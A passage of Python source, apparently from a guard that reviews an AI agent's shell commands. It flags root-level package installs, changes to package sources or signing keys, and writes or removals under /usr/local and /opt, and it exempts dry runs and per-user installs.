    **dict.fromkeys(("dnf", "yum", "microdnf"), frozenset({"--downloadonly", "--assumeno"})),
    "zypper": frozenset({"--dry-run", "-D", "--download-only"}),
    "apk": frozenset({"-s", "--simulate"}),
    "emerge": frozenset({"-p", "--pretend", "-s", "--search", "-S", "--searchdesc", "--info", "-h",
                         "--help"}),
    "port": frozenset({"-y"}),
    "flatpak": frozenset({"--user"}),
}  # fmt: skip
"""Options with which the package manager changes nothing of the machine (a simulation, a download,
a user's own installation)."""
_PACKAGE_SOURCES: dict[str, frozenset[str]] = {
    "add-apt-repository": frozenset(),
    "apt-add-repository": frozenset(),
    "apt-key": frozenset({"add", "adv", "del", "update", "net-update"}),
    "yum-config-manager": frozenset({"--add-repo", "--enable", "--disable", "--setopt", "--save"}),
}
"""Programs that add a package source or trust a signing key for every install (empty: every run with an
operand)."""
_DNF_SOURCES = frozenset({"config-manager", "copr", "module"})
_DNF_SOURCE_CHANGES = frozenset({"--add-repo", "addrepo", "--set-enabled", "--set-disabled", "setopt",
                                 "--save",
                                 "enable", "disable", "install", "remove", "reset", "switch-to"})  # fmt: skip


def _system_package_change(invocation: Invocation) -> Verdict | None:
    """``apt-get install -y x``, ``apk add x``, ``dnf install x``, ``dpkg --add-architecture`` without sudo.

    These managers install for every user, as root: without root they fail ("are you root?"), so a
    call that names no sudo runs in a root shell (a container, a CI runner, a root session). The guard
    does not ask the uid it runs under (``os.geteuid()``): the hook, ``agentbus eval`` and the bus
    judge text, and the shell that runs it may be another process, user or machine (``docker exec``,
    a devcontainer, ssh). Asking costs one question, for a call that would otherwise fail.
    """
    name = invocation.name
    values = _values(invocation)
    words = [v for v in values if not v.startswith("-")]
    if name in _PACKAGE_SOURCES:
        verbs = _PACKAGE_SOURCES[name]
        if (not verbs and words) or (verbs & set(values)):
            return _verdict(
                SUDO_INSTALL, invocation, f"{name} adds a package source or key for every install"
            )
        return None
    if name in ("dnf", "yum") and words[:1] and words[0] in _DNF_SOURCES:
        if _DNF_SOURCE_CHANGES & set(values) or any(v.startswith("--add-repo=") for v in values):
            return _verdict(SUDO_INSTALL, invocation, f"{name} {words[0]} changes the package sources")
        return None
    if name not in _SYSTEM_PACKAGE_MANAGERS or _DRY_RUNS.get(name, frozenset()) & set(values):
        return None
    if name == "pacman" and any(
        re.fullmatch(r"-[SRU][A-Za-z]*", v) and set(v[2:]) & set("silgph" if v[1] == "S" else "ph")
        for v in values
    ):
        return None  # pacman -Ss, -Si, -Rp, -Uh: searches, prints, help
    if name == "installer" and "CurrentUserHomeDirectory" in values:
        return None
    change = _package_change(invocation)
    if change is None:
        return None
    return _verdict(SUDO_INSTALL, invocation, f"{change} installs for the whole machine, as root")


_SYSTEM_PREFIX = lazy_compile(r"^/(?:usr/local|opt)/.")
"""Where software for every user is installed by hand (``/usr/local/bin``, ``/opt/go``); the operating
system's own directories (``/usr/bin``, ``/etc``) are system files, judged elsewhere."""
_PROGRAM_DIR = lazy_compile(r"^/usr/local/s?bin/[^/]+$")
_UNPACKERS = frozenset({"tar", "gtar", "bsdtar", "unzip"})


def _installs_into_prefix(invocation: Invocation, home: str) -> Verdict | None:
    """``sudo mv ./kind /usr/local/bin/``, ``sudo tar -C /usr/local -xzf go.tgz``, ``sudo ln -s …
    /usr/local/bin``, ``sudo rm -rf /usr/local/lib/android``: software of every user, changed as root."""
    for write in writes(invocation) if invocation.name != "ln" else ():  # a link names what is installed
        path = normalize_path(write.path, home=home, cwd=invocation.cwd)
        if _SYSTEM_PREFIX.match(path):
            return _verdict(SUDO_INSTALL, invocation, f"{write.how} {path} as root (software of every user)")
    values = _values(invocation)
    targets: list[str] = []
    if invocation.name in _UNPACKERS:
        targets = [values[i + 1] for i, v in enumerate(values[:-1]) if v in ("-C", "--directory", "-d")]
        targets += [v.partition("=")[2] for v in values if v.startswith("--directory=")]
    elif invocation.name in ("chmod", "chown", "chgrp", "mkdir"):
        targets = [v for v in values if not v.startswith("-")]
    for target in targets:
        path = normalize_path(target, home=home, cwd=invocation.cwd).rstrip("/") + "/"
        if _SYSTEM_PREFIX.match(path) or path in ("/usr/local/", "/opt/"):
            return _verdict(
                SUDO_INSTALL, invocation, f"{invocation.name} changes {path} as root (software of every user)"
            )
    return None


def _removes_program(invocation: Invocation, home: str) -> Verdict | None:
    """``rm -f /usr/local/bin/docker-compose``: an installed program uninstalled, for every user."""
    if invocation.name not in ("rm", "unlink"):
        return None
    for write in writes(invocation):
        path = normalize_path(write.path, home=home, cwd=invocation.cwd)
        if _PROGRAM_DIR.match(path):
            return _verdict(SUDO_INSTALL, invocation, f"removes the installed program {path}, for every user")
    return None
